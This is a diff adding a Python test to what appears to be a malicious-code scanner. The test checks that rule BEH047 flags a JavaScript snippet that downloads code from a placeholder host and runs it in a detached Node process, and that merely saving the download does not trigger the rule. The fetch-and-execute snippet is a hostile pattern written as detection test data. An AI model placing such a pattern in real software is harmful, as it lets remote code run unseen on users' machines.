@@ -597,3 +597,17 @@ def script_facts_of(code: str) -> set[tuple[str, str]]:
 
     facts = extract_facts(code, script_regions(code, "rb"))
     return {(k.value, f.detail) for k, v in facts.by_kind.items() for f in v}
+
+
+def test_fetched_code_handed_to_an_interpreter_to_run_is_run_as_code():
+    script = (
+        'https.get("https://sync.example.invalid/m.js", (res) => {\n  let code = "";\n'
+        '  res.on("data", (c) => (code += c));\n  res.on("end", () => {\n'
+        '    spawn(process.execPath, ["-e", code], { detached: true }).unref();\n  });\n});\n'
+    )
+    assert "BEH047" in {f.rule for f in SCANNER.scan_text(script, "scripts/w.js").findings}
+    saved = script.replace(
+        'spawn(process.execPath, ["-e", code], { detached: true }).unref();',
+        'fs.writeFileSync("m.json", code);',
+    )
+    assert "BEH047" not in {f.rule for f in SCANNER.scan_text(saved, "scripts/w.js").findings}
